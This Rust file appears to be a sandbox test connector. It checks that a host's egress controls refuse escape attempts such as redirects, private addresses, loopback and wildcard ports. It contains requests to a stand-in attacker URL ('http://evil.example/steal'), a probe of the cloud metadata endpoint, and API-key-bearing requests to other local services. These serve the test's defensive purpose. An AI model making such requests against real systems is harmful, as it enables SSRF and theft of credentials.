//! Proves that every way out of the egress grant is refused: a host the
//! connection does not allow, a redirect to such a host (followed by hand),
//! an IP literal of a private address, a name that resolves to loopback,
//! and another local service behind a wildcard port. With `follow_loop`, it
//! follows a partner's redirect loop by hand instead, as far as the host
//! lets it. `read` reports what happened to each attempt as one record.

use serde::Deserialize;
use serde_json::json;
use weir_sdk::http::Request;
use weir_sdk::{
    Checkpoint, Connector, Page, ReadRequest, Record, Result, Spec, StreamCapabilities,
};

struct HttpEscape;

weir_sdk::export_connector!(HttpEscape);

#[derive(Deserialize)]
struct Config {
    /// The partner simulator, which the connection allows.
    sim_url: String,
    /// Another local service, reachable only through a wildcard port.
    #[serde(default)]
    other_url: Option<String>,
    /// Follow `/v1/redirect/loop` instead of trying the ways out.
    #[serde(default)]
    follow_loop: bool,
}

/// Redirects the connector follows at most, far more than the host allows.
const LOOP_HOPS: u32 = 1_000;

/// Follows the simulator's redirect loop until a request fails.
fn follow_loop(config: &Config) -> serde_json::Value {
    let mut url = format!("{}/v1/redirect/loop", config.sim_url);
    for answered in 0..LOOP_HOPS {
        let response = Request::get(&url)
            .secret_header("x-api-key", "api_key")
            .send();
        match response {
            Ok(response) => match response.header("location") {
                Some(location) => url = format!("{}{location}", config.sim_url),
                None => {
                    return json!({ "answered": answered + 1, "ended": format!("status {}", response.status) });
                }
            },
            Err(error) => {
                return json!({ "answered": answered, "ended": format!("error: {error}") });
            }
        }
    }
    json!({ "answered": LOOP_HOPS, "ended": "never" })
}

fn outcome(result: Result<weir_sdk::http::Response>) -> String {
    match result {
        Ok(response) => format!("status {}", response.status),
        Err(error) => format!("error: {error}"),
    }
}

impl Connector for HttpEscape {
    type Config = Config;

    fn spec() -> Spec {
        Spec::new("http-escape", "0.1.0")
            .host("config:/sim_url")
            .host("http://evil.example")
            .host("http://169.254.169.254:*")
            .host("http://localhost:*")
            .secret("api_key", "the simulator's key")
            .stream(StreamCapabilities::new("attempts"))
    }

    fn read(config: &Config, _request: ReadRequest) -> Result<Page> {
        if config.follow_loop {
            return Ok(Page::new(
                vec![Record::from_serialize("attempts", &follow_loop(config))?],
                Checkpoint::from_json(1, "{}"),
            ));
        }
        let disallowed = outcome(Request::get("http://evil.example/steal").send());

        let redirect = Request::get(format!("{}/v1/redirect", config.sim_url))
            .query("to", "http://evil.example/steal")
            .secret_header("x-api-key", "api_key")
            .send()?;
        let location = redirect.header("location").unwrap_or_default().to_string();
        let followed = outcome(Request::get(location).send());

        let private_ip = outcome(Request::get("http://169.254.169.254/latest/meta-data/").send());

        let port = config.sim_url.rsplit(':').next().unwrap_or_default();
        let loopback_name = outcome(
            Request::get(format!("http://localhost:{port}/v1/contacts"))
                .secret_header("x-api-key", "api_key")
                .send(),
        );

        let other_port = config.other_url.as_ref().map(|other| {
            outcome(
                Request::get(format!("{other}/v1/contacts"))
                    .secret_header("x-api-key", "api_key")
                    .send(),
            )
        });

        let attempts = json!({
            "other_port": other_port,
            "disallowed": disallowed,
            "redirect_status": redirect.status,
            "redirect_followed": followed,
            "private_ip": private_ip,
            "loopback_name": loopback_name,
        });
        Ok(Page::new(
            vec![Record::from_serialize("attempts", &attempts)?],
            Checkpoint::from_json(1, "{}"),
        ))
    }
}
